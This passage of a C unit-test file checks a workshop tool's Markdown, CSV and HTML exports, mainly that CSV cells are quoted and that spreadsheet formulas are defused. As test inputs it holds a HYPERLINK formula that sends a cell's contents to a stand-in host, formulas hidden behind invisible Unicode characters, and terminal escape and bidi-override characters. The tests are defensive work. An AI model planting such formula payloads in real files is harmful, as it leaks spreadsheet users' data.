	struct session *next = next_quarter(first);
	struct comparison cmp;
	ok(compare_sessions(first, next, NULL, TODAY, &cmp, &err), &err);
	struct sbuf out = SBUF_INIT;
	const struct export_context ctx = {next, first, &cmp, TODAY, .names = true};
	export_md(&ctx, &out);
	const char *md = sbuf_str(&out);
	assert_contains_each(md, (const char *const[]){
		"| Mean | SD | Range | Ratings | Last time | Change | Marks |",
		"| Culture: sharing, trust | 4 | 4 | 4 | – | 4.0 | 0.0 | 4-4 | 4 ×3 | 2.7 | "
			"+1.3 ↑ |",
		"## Summary\n\n4 people rated 1 of 3 dimensions on a 1-5 scale. The only one rated: "
			"Culture: sharing, trust (4.0). Since last time, the one move: Culture: "
			"sharing, trust +1.3.",
		"Of last time's 6 steps, 2 are done, 2 dropped and 2 still to do.\n",
		"## Since last time\n\nCompared with iteration 1, Q1: how Sales "
			"learns.\n\n### Dimensions\n",
		"| Culture: sharing, trust | 2.7 | 4.0 | +1.3 ↑ |",
		"| Tools that find answers | – | – | – |",
		"**Done** (2)\n\n- Pilot show-and-tell in Sales\n"
			"- Tie recognition to sharing\n",
		"**Dropped** (2)\n\n- Build a searchable answers wiki\n",
		"**New** (1)\n\n- Lunch and learn\n",
		"**Achieved** (2)\n\n- Anyone finds an answer within a day\n"
			"- A budget for learning\n",
		"**Retired** (1)\n\n- Show-and-tell every month\n",
		"| Questions answered within a day | 55 | 62 | 70 | "
			"███████···  73% | On track |",
		NULL,
	});
	assert_true(strstr(md, "## Since last time") < strstr(md, "## Parking lot"));
	assert_tables_keep_their_columns(md);
	assert_no_raw_controls(md, false);
	sbuf_free(&out);
	comparison_free(&cmp);
	session_free(next);
	session_free(first);
}

/* ---- CSV ---- */

/* The lines of one section, from its header row to the empty line. */
static char *csv_section(const char *csv, const char *name)
{
	struct sbuf title = SBUF_INIT;
	sbuf_addf(&title, "# %s\r\n", name);
	const char *start = strstr(csv, sbuf_str(&title));
	if (start == NULL)
		fail_msg("no section %s", name);
	start += title.len;
	const char *end = strstr(start, "\r\n\r\n");
	sbuf_free(&title);
	return xstrndup(start, end ? (size_t)(end - start + 2) : strlen(start));
}

/* The values section of the CSV export of a session whose values are
 * these texts, held as a damaged database could; the caller frees it. */
static char *csv_values_of(const char *const *texts, size_t n)
{
	struct session *s = blank_session("placeholder", NULL, 0);
	struct error err = {0};
	for (size_t i = 0; i < n; i++) {
		ok(session_add_value(s, "x", &err), &err);
		replace(&s->values[i].text, texts[i]);
	}
	char *csv = export_with(export_csv, s);
	char *values = csv_section(csv, "values");
	free(csv);
	session_free(s);
	return values;
}

static void export_csv__names_each_section_and_separates_them_with_an_empty_line(void **state)
{
	(void)state;
	static const char *const names[] = {
		"session", "participants", "ratings", "group_scores", "dimensions", "notes",
		"values", "goals", "metrics", "measurements", "steps", "ballots",
		"ballot_results", "parking_lot",
	};
	struct session *s = full_session();
	char *csv = export_with(export_csv, s);
	assert_true(strncmp(csv, "# session\r\n", 11) == 0);
	for (size_t i = 1; i < NELEMS(names); i++) {
		struct sbuf want = SBUF_INIT;
		sbuf_addf(&want, "\r\n\r\n# %s\r\n", names[i]);
		assert_contains(csv, sbuf_str(&want));
		sbuf_free(&want);
	}
	char *ratings = csv_section(csv, "ratings");
	assert_string_equal(ratings, "dimension_key,dimension,participant,score\r\n"
				     "culture,\"Culture: sharing, trust\",Ana,3\r\n"
				     "culture,\"Culture: sharing, trust\",Zoë Ng,4\r\n"
				     "culture,\"Culture: sharing, trust\",日本語,1\r\n");
	char *groups = csv_section(csv, "group_scores");
	assert_string_equal(groups, "dimension_key,dimension,score\r\npolicies,Policies,2\r\n");
	char *results = csv_section(csv, "ballot_results");
	assert_contains(results, "1,1,false,100,Pilot show-and-tell in Sales,4,,,\r\n");
	assert_contains(results, "1,2,true,101,Build a searchable answers wiki,3,,,\r\n");
	assert_lacks(results, "\r\n3,");
	char *measurements = csv_section(csv, "measurements");
	assert_contains(measurements, "50,Questions answered within a day,55.0,2026-02-02\r\n");
	assert_no_raw_controls(csv, true);
	free(measurements);
	free(results);
	free(groups);
	free(ratings);
	free(csv);
	session_free(s);
}

static void export_csv__quotes_cells_with_commas_quotes_and_line_breaks(void **state)
{
	(void)state;
	struct session *s = blank_session("placeholder", NULL, 0);
	struct error err = {0};
	ok(session_park(s, "plain text", &err), &err);
	ok(session_park(s, "one, two", &err), &err);
	ok(session_park(s, "say \"hi\"", &err), &err);
	ok(session_park(s, "line\nbreak", &err), &err);
	ok(session_park(s, "esc\033[2J \342\200\256", &err), &err);
	char *csv = export_with(export_csv, s);
	char *parking = csv_section(csv, "parking_lot");
	assert_string_equal(parking, "id,text\r\n"
				     ",plain text\r\n"
				     ",\"one, two\"\r\n"
				     ",\"say \"\"hi\"\"\"\r\n"
				     ",line\\x0abreak\r\n"
				     ",esc\\x1b[2J \\u{202E}\r\n");
	assert_no_raw_controls(csv, true);
	free(parking);
	free(csv);
	session_free(s);
}

/* A step given an impact and no effort shows the one score it has and a
 * dash for the other, never a 0 nobody gave. */
static void export_html__shows_a_missing_effort_as_a_dash_not_a_zero(void **state)
{
	(void)state;
	struct session *s = full_session();
	char *html = export_with(export_html, s);
	assert_non_null(strstr(html, "<td class=\"n\">3 / –</td>"));
	assert_null(strstr(html, "3 / 0"));
	assert_non_null(strstr(html, "<td class=\"n\">1 / 1</td>"));
	free(html);
	session_free(s);
}

static void export_csv__neutralizes_cells_a_spreadsheet_would_run_as_formulas(void **state)
{
	(void)state;
	static const char *const texts[] = {
		"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1", "-1+2", "@SUM(A1:A9)",
		"\t=1+1", "\r=1+1", " =1+1", "fine = 1+1", "a-b",
	};
	static const char *const cells[] = {
		"\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"", "'+1", "'-1+2",
		"'@SUM(A1:A9)", "' =1+1", "'\\x0d=1+1", "' =1+1", "fine = 1+1", "a-b",
	};
	char *values = csv_values_of(texts, NELEMS(texts));
	struct sbuf want = SBUF_INIT;
	sbuf_adds(&want, "id,text\r\n");
	for (size_t i = 0; i < NELEMS(cells); i++)
		sbuf_addf(&want, ",%s\r\n", cells[i]);
	assert_string_equal(values, sbuf_str(&want));
	sbuf_free(&want);
	free(values);
}

/* Text that shows nothing, or only blank, before an = + - @ still starts
 * a formula to the eye and to some spreadsheets. */
static void export_csv__neutralizes_formulas_behind_invisible_or_blank_characters(void **state)
{
	(void)state;
	static const char *const texts[] = {
		"\u00a0=1+1",             /* no-break space */
		"\u200b+1",               /* zero width space */
		"\u2060-1+2",             /* word joiner */
		"\ufeff@SUM(A1)",         /* byte order mark */
		"\u2003\u202f\u205f\u3000=1", /* em, narrow no-break, math, ideographic */
		"\u2000\u200a+1",         /* en quad, hair space */
		"\u180e\u200c\u200d=1",   /* Mongolian vowel separator, ZWNJ, ZWJ */
		"\u00ad=1",               /* soft hyphen */
		"\uff1dSUM(A1)",          /* fullwidth = */
		"\uff0b1", "\uff0d1", "\uff20SUM(A1)",
		"\u200b \u00a0\uff1d1",   /* mixed */
		"\u00a0fine",             /* blank, then text: left alone */
		"\u00e9=1",               /* a letter first: left alone */
		"\u2212" "1",             /* MINUS SIGN is not a formula's start */
	};
	char *values = csv_values_of(texts, NELEMS(texts));
	struct sbuf want = SBUF_INIT;
	sbuf_adds(&want, "id,text\r\n");
	for (size_t i = 0; i < NELEMS(texts); i++) {
		bool neutral = i < NELEMS(texts) - 3;
		sbuf_addf(&want, ",%s%s\r\n", neutral ? "'" : "", texts[i]);
	}
	assert_string_equal(values, sbuf_str(&want));
	sbuf_free(&want);
	free(values);
}

static void export_csv__keeps_the_programs_own_negative_points_as_numbers(void **state)
{
	(void)state;
	static const char *const people[] = {"-1", "=cmd"};
	struct error err = {0};
	struct session *s = blank_session("Scores", people, NELEMS(people));
	add_steps(s);
	struct ballot *b = open_ballot(s, BALLOT_SCORING);
	ok(ballot_cast_scores(b, 1, (const int[]){1, 5, 3, 3, 3, 3},
			      (const int[]){5, 1, 3, 3, 3, 3}, &err), &err);
	reveal_last(s);
	char *csv = export_with(export_csv, s);
	char *stepsec = csv_section(csv, "steps");
	assert_contains(stepsec,
			"100,6,Pilot show-and-tell in Sales,short,planned,Ana,,4,2,-40\r\n");
	char *results = csv_section(csv, "ballot_results");
	assert_contains(results, "1,6,false,100,Pilot show-and-tell in Sales,-40,1.0,5.0,"
				 "thankless\r\n");
	char *participants = csv_section(csv, "participants");
	assert_string_equal(participants, "id,name,left_on\r\n1,'-1,\r\n2,'=cmd,\r\n");
	free(participants);
	free(results);
	free(stepsec);
	free(csv);
	session_free(s);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(export_yaml__reads_back_into_the_same_tree_as_the_json_export),
		cmocka_unit_test(export_yaml__reads_back_an_empty_session_with_every_list_empty),
		cmocka_unit_test(
			export_yaml__quotes_every_string_so_none_reads_as_a_number_boolean_or_null),
		cmocka_unit_test(export_yaml__escapes_controls_bidi_noncharacters_and_bad_bytes),
		cmocka_unit_test(yaml_writer__writes_nested_and_empty_containers_that_read_back),
		cmocka_unit_test(
			export_md__shows_hostile_titles_literally_with_no_raw_control_characters),
		cmocka_unit_test(
			export_md__states_the_facts_scores_and_progress_bars_of_the_workshop),
		cmocka_unit_test(
			export_md__charts_revealed_ballots_with_ties_and_the_condorcet_winner),
		cmocka_unit_test(export_md__says_when_a_ranked_ballot_has_no_condorcet_winner),
		cmocka_unit_test(
			export_md__lists_the_roadmap_by_horizon_and_rank_then_the_done_and_dropped),
		cmocka_unit_test(
			export__a_group_score_over_the_peoples_scores_says_it_alone_is_counted),
		cmocka_unit_test(export_md__of_a_check_in_says_what_changed_since_last_time),
		cmocka_unit_test(
			export_csv__names_each_section_and_separates_them_with_an_empty_line),
		cmocka_unit_test(export_csv__quotes_cells_with_commas_quotes_and_line_breaks),
		cmocka_unit_test(export_html__shows_a_missing_effort_as_a_dash_not_a_zero),
		cmocka_unit_test(export_csv__neutralizes_cells_a_spreadsheet_would_run_as_formulas),
		cmocka_unit_test(export_csv__neutralizes_formulas_behind_invisible_or_blank_characters),
		cmocka_unit_test(export_csv__keeps_the_programs_own_negative_points_as_numbers),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
